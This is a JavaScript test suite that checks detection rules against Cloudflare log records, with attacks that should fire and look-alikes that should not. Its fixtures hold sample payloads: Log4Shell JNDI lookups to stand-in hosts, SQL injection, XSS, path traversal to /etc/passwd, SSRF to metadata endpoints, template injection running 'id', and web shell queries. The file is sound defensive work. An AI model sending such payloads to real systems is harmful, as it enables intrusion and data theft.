// The rules of detections/rules, through the pipeline of detections/, on events that the command line
// makes of records: each fires on an attack, and is silent on what looks like one.

import assert from "node:assert/strict";
import { mkdtempSync, readFileSync, readdirSync, rmSync, writeFileSync } from "node:fs";
import { tmpdir } from "node:os";
import { join } from "node:path";
import { after, before, test } from "node:test";

import { root } from "../../scripts/paths.mjs";
import { run } from "../support/cli.mjs";
import { compile, readPipeline } from "./sigma.mjs";

const PIPELINE = readPipeline(readFileSync(join(root, "detections/logpush-ecs.yml"), "utf8"));
const FIREFOX = "Mozilla/5.0 (X11; Linux x86_64; rv:143.0) Gecko/20100101 Firefox/143.0";

/** A record, and the dataset that it is of. */
const record = (dataset, fields) => ({ dataset, fields });

/** A request to a site behind Cloudflare. */
const web = (uri, fields = {}) =>
  record("http_requests", {
    ClientIP: "198.51.100.7",
    ClientRequestHost: "shop.example.com",
    ClientRequestMethod: "GET",
    ClientRequestPath: uri.split("?")[0],
    ClientRequestScheme: "https",
    ClientRequestURI: uri,
    ClientRequestUserAgent: FIREFOX,
    EdgeResponseStatus: 200,
    EdgeStartTimestamp: "2026-10-04T08:15:30Z",
    RayID: "8f3b54e0aa1c4d27",
    ...fields,
  });

/** The same, as the security products saw it. */
const firewall = (path, query, fields = {}) =>
  record("firewall_events", {
    Action: "block",
    ClientIP: "198.51.100.7",
    ClientRequestHost: "shop.example.com",
    ClientRequestMethod: "GET",
    ClientRequestPath: path,
    ClientRequestQuery: query,
    ClientRequestScheme: "https",
    ClientRequestUserAgent: FIREFOX,
    Datetime: "2026-10-04T08:15:30Z",
    EdgeResponseStatus: 403,
    Source: "firewallmanaged",
    ...fields,
  });

/** A request of a user to the world, through Gateway. */
const gateway = (url, fields = {}) =>
  record("gateway_http", {
    Action: "allow",
    Datetime: "2026-10-04T08:15:30Z",
    DestinationIP: "203.0.113.80",
    DestinationPort: 443,
    Email: "alex@example.com",
    HTTPHost: new URL(url).host,
    HTTPMethod: "GET",
    HTTPStatusCode: 200,
    HTTPVersion: "HTTP/2",
    SourceIP: "203.0.113.15",
    URL: url,
    UserAgent: FIREFOX,
    ...fields,
  });

const sinkhole = (url, fields = {}) =>
  record("sinkhole_http_logs", {
    DestAddr: "203.0.113.80",
    Host: new URL(url).host,
    Method: "GET",
    SrcAddr: "198.51.100.7",
    Timestamp: "2026-10-04T08:15:30Z",
    URI: new URL(url).pathname,
    URL: url,
    UserAgent: FIREFOX,
    ...fields,
  });

const dns = (name, fields = {}) =>
  record("gateway_dns", {
    Datetime: "2026-10-04T08:15:30Z",
    QueryName: name,
    QueryType: 1,
    QueryTypeName: "A",
    RCode: 0,
    ResolverDecision: "allowedOnNoPolicyMatch",
    SrcIP: "203.0.113.15",
    ...fields,
  });

/** A query for a TXT record of a zone behind Cloudflare. */
const zone = (dataset, name) =>
  record(dataset, { QueryName: name, QueryType: 16, SourceIP: "198.51.100.53", Timestamp: "2026-10-04T08:15:30Z" });

const txt = { QueryType: 16, QueryTypeName: "TXT" };

const audit = (fields) =>
  record("audit_logs", {
    ActionResult: true,
    ActorEmail: "admin@example.com",
    ActorIP: "198.51.100.8",
    ActorType: "user",
    ID: "c1d2e3f4-0516-4728-93a4-b5c6d7e8f901",
    Interface: "UI",
    When: "2026-10-04T08:15:30Z",
    ...fields,
  });

const auditV2 = (fields) =>
  record("audit_logs_v2", {
    AccountID: "4f0d1c2b3a495867768594a3b2c1d0ef",
    ActionResult: "success",
    ActionTimestamp: "2026-10-04T08:15:30Z",
    ActionType: "create",
    ActorEmail: "admin@example.com",
    ActorIPAddress: "198.51.100.8",
    AuditLogID: "01997f3e5a6b7c8d9e0f1a2b3c4d5e6f",
    ...fields,
  });

const member = (role, fields = {}) =>
  auditV2({
    ActionDescription: "Add Member",
    ResourceProduct: "members",
    ResourceRequest: { email: "newcomer@example.com", roles: [role] },
    ...fields,
  });

const access = (fields) =>
  record("access_requests", {
    Action: "login",
    Allowed: true,
    AppDomain: "wiki.example.com",
    CreatedAt: "2026-10-04T08:15:30Z",
    Email: "reader@example.com",
    IPAddress: "198.51.100.23",
    ...fields,
  });

/** Logins that are refused, so many seconds apart. */
const refused = (count, seconds, addresses = ["198.51.100.7"]) =>
  Array.from({ length: count }, (_, n) =>
    web("/account/login", {
      ClientIP: addresses[n % addresses.length],
      ClientRequestMethod: "POST",
      EdgeResponseStatus: 401,
      EdgeStartTimestamp: new Date(Date.UTC(2026, 9, 4) + n * seconds * 1000).toISOString(),
    }),
  );

const LONG = "mzxw6ytboi4dqmrqgiydgmbqha2tsmjqgq2dcnzthe3tsojq";

/** By rule: each row of `fires` makes it fire alone, each row of `silent` does not. */
const CASES = {
  cloudflare_access_denied: {
    fires: [[access({ Allowed: false })]],
    silent: [
      [access({})],
      [access({ Allowed: false, Email: "" })],
      [access({ Action: "logout", Allowed: false })],
    ],
  },
  cloudflare_api_token: {
    fires: [
      [audit({ ActionType: "token_create" })],
      [audit({ ActionType: "token_roll", ActorIP: "2001:db8:4::17" })],
      [auditV2({ ActionDescription: "Create API Token", ResourceProduct: "user_tokens" })],
    ],
    silent: [
      [audit({ ActionType: "token_create", ActorIP: "192.0.2.10" })],
      [audit({ ActionType: "token_create", ActorIP: "2001:db8:ffff::17" })],
      [audit({ ActionType: "token_create", ActionResult: false })],
      [audit({ ActionType: "rec_add" })],
      [auditV2({ ActionType: "view", ResourceProduct: "user_tokens" })],
      [auditV2({ ResourceProduct: "user_tokens", ActorIPAddress: "192.0.2.10" })],
    ],
  },
  cloudflare_super_administrator: {
    fires: [[member("Super Administrator - All Privileges")], [member("Administrator", { ActionType: "update" })]],
    silent: [
      [member("Billing")],
      [member("Administrator", { ActionType: "delete" })],
      [member("Administrator", { ResourceProduct: "access" })],
    ],
  },
  dns_mining_pool: {
    fires: [[dns("XMR-EU1.Nanopool.org")]],
    silent: [[dns("www.example.com")], [dns("nanopool.org.example.com")], [dns("xmr-eu1.nanopool.org", { RCode: 3 })]],
  },
  dns_tunnel: {
    fires: [
      [dns(`${LONG}.t.example.com`, txt)],
      [dns(`a.${LONG.toUpperCase()}.t.example.com`, txt)],
      [zone("dns_logs", `${LONG}.example.com`)],
      [zone("dns_firewall_logs", `${LONG}.example.com`)],
    ],
    silent: [
      [dns("www.example.com", txt)],
      [dns(`${LONG}.t.example.com`)],
      [dns(`${LONG}._domainkey.example.com`, txt)],
      [dns(`${LONG.slice(0, 24)}.${LONG.slice(24)}.t.example.com`, txt)],
    ],
  },
  proxy_script_user_agent: {
    fires: [
      [gateway("https://api.telegram.org/bot1/getUpdates", { UserAgent: "curl/8.10.1" })],
      [gateway("https://PASTEBIN.com/raw/abc", { UserAgent: "Mozilla/5.0 (Windows NT) WindowsPowerShell/5.1" })],
      [gateway("https://pastebin.com/raw/abc", { UserAgent: "" })],
      [sinkhole("http://paste.ee/r/abc", { UserAgent: "python-requests/2.32" })],
    ],
    silent: [
      [gateway("https://api.telegram.org/bot1/getUpdates")],
      [gateway("https://www.example.com/", { UserAgent: "curl/8.10.1" })],
      [gateway("https://example.com/api.telegram.org", { UserAgent: "curl/8.10.1" })],
    ],
  },
  proxy_suspicious_download: {
    fires: [
      [gateway("https://files.evil.top/d/invoice.EXE?v=2")],
      [gateway("http://203.0.113.80:8080/a.ps1")],
      [gateway("https://x.trycloudflare.com/update.msi")],
      [sinkhole("http://cdn.evil.top/stage2.dll")],
    ],
    silent: [
      [gateway("https://files.evil.top/d/invoice.pdf?name=invoice.exe")],
      [gateway("https://www.example.com/setup.exe")],
      [gateway("http://192.168.4.20/firmware.exe", { DestinationIP: "192.168.4.20" })],
      [web("/d/invoice.exe", { ClientRequestHost: "files.evil.top" })],
    ],
  },
  web_cross_site_scripting: {
    fires: [
      [web("/search?q=%3CScript%3Ealert(1)%3C/script%3E")],
      [web("/p?next=javascript:alert(1)")],
      [firewall("/p", "?x=%3Cimg%20src=x%20onerror=alert(1)%3E")],
    ],
    silent: [[web("/search?q=script+for+a+film")], [web("/p?img=1&src=shop")], [web("/javascript/app.js?v=3")]],
  },
  web_log4shell: {
    fires: [
      [web("/?x=${jndi:ldap://203.0.113.9/a}")],
      [web("/?x=%24%7Bjndi%3Aldap%3A%2F%2F203.0.113.9%2Fa%7D")],
      [web("/", { ClientRequestUserAgent: "${${lower:j}ndi:ldap://203.0.113.9/a}" })],
      [web("/", { ClientRequestReferer: "${jndi:dns://evil.example}" })],
      [firewall("/", "", { ClientRequestUserAgent: "${jndi:ldap://203.0.113.9/a}" })],
    ],
    silent: [
      [web("/?price=$%7B12%7D")],
      [web("/docs/jndi?q=ldap")],
      [web("/", { ClientRequestReferer: "https://a.example/jndi" })],
    ],
  },
  web_login_brute_force: {
    fires: [refused(10, 20), [...refused(3, 200), ...refused(12, 1)]],
    silent: [
      refused(9, 20),
      refused(30, 60),
      refused(18, 1, ["198.51.100.7", "198.51.100.8"]),
      Array(20).fill(web("/account/login", { ClientRequestMethod: "POST" })),
      Array(20).fill(web("/account", { EdgeResponseStatus: 403 })),
    ],
  },
  web_path_traversal: {
    fires: [
      [web("/download?file=../../../../etc/passwd")],
      [web("/static/..%2F..%2F..%2Fetc%2Fpasswd")],
      [web("/cgi-bin/%2e%2e/%2e%2e/%2e%2e/windows/win.ini")],
      [firewall("/download", "?file=..\\..\\windows\\win.ini")],
    ],
    silent: [
      [web("/download?file=../../logo.png")],
      [web("/docs/etc/passwd")],
      [web("/assets/app..js")],
      [gateway("https://www.example.com/download?file=../../../../etc/passwd")],
    ],
  },
  web_scanner_user_agent: {
    fires: [
      [web("/", { ClientRequestUserAgent: "SQLMap/1.8.4#stable (https://sqlmap.org)" })],
      [firewall("/", "", { ClientRequestUserAgent: "Fuzz Faster U Fool v2.1.0" })],
    ],
    silent: [[web("/")], [web("/docs/sqlmap")], [web("/", { ClientRequestUserAgent: "not fuzz faster u fool" })]],
  },
  web_secret_file: {
    fires: [[web("/.env")], [web("/app/.git/config", { EdgeResponseStatus: 206 })]],
    silent: [[web("/.env", { EdgeResponseStatus: 404 })], [web("/docs/dot.env.html")], [web("/?f=/.env")]],
  },
  web_shell: {
    fires: [[web("/wp-content/uploads/2026/a.php?cmd=whoami")], [web("/images/x.ASPX?exec=dir")]],
    silent: [
      [web("/wp-content/uploads/2026/a.php?cmd=whoami", { EdgeResponseStatus: 404 })],
      [web("/wp-content/uploads/2026/a.jpg?cmd=1")],
      [web("/admin.php?cmd=save")],
      [web("/wp-content/plugins/shop/a.php?page=2")],
    ],
  },
  web_sql_injection: {
    fires: [
      [web("/item?id=1%20UNION%20SELECT%20password%20FROM%20users")],
      [web("/item?id=1%27%20OR%201%3D1--")],
      [firewall("/item", "?id=1+union+all+select+1,2,3")],
    ],
    silent: [
      [web("/search?q=european+union+selection")],
      [web("/search?q=union-or-select")],
      [web("/item?id=1/2/union/3/select")],
    ],
  },
  web_ssrf_metadata: {
    fires: [
      [web("/fetch?url=http://169.254.169.254/latest/meta-data/")],
      [web("/fetch?url=http%3A%2F%2FMetadata.Google.Internal%2F")],
      [firewall("/fetch", "?url=http://[fd00:ec2::254]/")],
    ],
    silent: [
      [web("/fetch?url=https://www.example.com/")],
      [web("/docs?page=169-254-169-254")],
      [web("/fetch?build=169.254.169.25")],
    ],
  },
  web_template_injection: {
    fires: [
      [web("/hello?name={{config.items()}}")],
      [web("/hello?name=%7B%7Bconfig.items()%7D%7D")],
      [web("/", { ClientRequestUserAgent: "${T(java.lang.Runtime).getRuntime().exec('id')}" })],
      [firewall("/", "", { ClientRequestUserAgent: "__class__.__mro__" })],
    ],
    silent: [
      [web("/hello?name={{configuration}}")],
      [web("/?q=java.lang.Runtime")],
      [web("/", { ClientRequestReferer: "https://a.example/49" })],
    ],
  },
};

/** What public rules ask in other words than ours: the log source, the selection, and records. */
const WORDS = [
  ["a path in the place of an address", "proxy", { "cs-uri": ["/gate/in.php", "/gate/out.php"], "cs-method": "POST" }, {
    fires: [
      gateway("http://203.0.113.80/gate/in.php", { HTTPMethod: "POST" }),
      sinkhole("http://cdn.evil.top/gate/out.php?id=7", { Method: "POST" }),
    ],
    silent: [gateway("http://203.0.113.80/old/gate/in.php", { HTTPMethod: "POST" })],
  }],
  ["an empty text", "proxy", { "c-useragent": "", "c-uri-extension": "ps1" }, {
    fires: [gateway("http://203.0.113.80/stage.ps1", { UserAgent: "" })],
    silent: [gateway("http://203.0.113.80/stage.ps1")],
  }],
  ["the dash of W3C's format", "webserver", { "cs-referrer": "-", "cs-uri-query": "-", "cs-uri-stem|endswith": ".aspx" }, {
    fires: [web("/upload/shell.aspx"), firewall("/upload/shell.aspx", "")],
    silent: [web("/upload/shell.aspx", { ClientRequestReferer: "https://shop.example.com/" }), web("/a.aspx?b=1")],
  }],
  ["a relative referrer", "webserver", { "cs-referer|startswith": "/admin/logout" }, {
    fires: [
      web("/panel", { ClientRequestReferer: "/admin/logout.aspx" }),
      firewall("/panel", "", { ClientRefererHost: "", ClientRefererPath: "/admin/logout.aspx", ClientRefererScheme: "" }),
    ],
    silent: [
      firewall("/panel", "", {
        ClientRefererHost: "shop.example.com",
        ClientRefererPath: "/admin/logout.aspx",
        ClientRefererScheme: "https",
      }),
    ],
  }],
  ["names of Windows and Zeek", "dns", { "QueryName|endswith": ".tunnel.example", qtype_name: "NULL" }, {
    fires: [
      dns("pa.Tunnel.example", { QueryType: 10, QueryTypeName: "NULL" }),
      record("dns_logs", { QueryName: "pa.tunnel.example", QueryType: 10, Timestamp: "2026-10-04T08:15:30Z" }),
    ],
    silent: [dns("pa.tunnel.example")],
  }],
];

const folder = mkdtempSync(join(tmpdir(), "detections-"));
after(() => rmSync(folder, { recursive: true }));

/** The event of each record. */
const events = new Map();
before(async () => {
  const rows = [...Object.values(CASES), ...WORDS.map((row) => row.at(-1))];
  const records = rows.flatMap(({ fires, silent }) => [...fires, ...silent].flat());
  for (const dataset of new Set(records.map((one) => one.dataset))) {
    const members = records.filter((one) => one.dataset === dataset);
    const file = join(folder, `${dataset}.ndjson`);
    writeFileSync(file, members.map(({ fields }) => `${JSON.stringify(fields)}\n`).join(""));
    const { code, stdout, stderr } = await run(["normalize", "--strict", "--dataset", dataset, file]);
    assert.equal(code, 0, stderr);
    const lines = stdout.trimEnd().split("\n");
    assert.equal(lines.length, members.length, dataset);
    members.forEach((member, n) => events.set(member, JSON.parse(lines[n])));
  }
});

const readRule = (name) => readFileSync(join(root, "detections/rules", name), "utf8");
const FILES = readdirSync(join(root, "detections/rules")).sort();

test("every rule has rows, and every row a rule", () => {
  assert.deepEqual(FILES, Object.keys(CASES).map((name) => `${name}.yml`));
  for (const [name, { fires, silent }] of Object.entries(CASES)) assert.ok(fires.length && silent.length, name);
});

for (const [name, { fires, silent }] of Object.entries(CASES)) {
  test(`${name} fires on attacks, and on nothing else`, () => {
    const rule = compile(readRule(`${name}.yml`), PIPELINE);
    const fired = (records) => rule.fires(records.map((one) => events.get(one)));
    for (const records of fires) assert.ok(fired(records), `silent on ${JSON.stringify(records[0].fields)}`);
    for (const records of silent) assert.ok(!fired(records), `fires on ${JSON.stringify(records[0].fields)}`);
  });
}

for (const [words, category, selection, { fires, silent }] of WORDS) {
  test(`public rules that have ${words} fire`, () => {
    const text = JSON.stringify({ title: words, logsource: { category }, detection: { selection, condition: "selection" } });
    const rule = compile(text, PIPELINE);
    for (const one of fires) assert.ok(rule.fires([events.get(one)]), `silent on ${JSON.stringify(one.fields)}`);
    for (const one of silent) assert.ok(!rule.fires([events.get(one)]), `fires on ${JSON.stringify(one.fields)}`);
  });
}
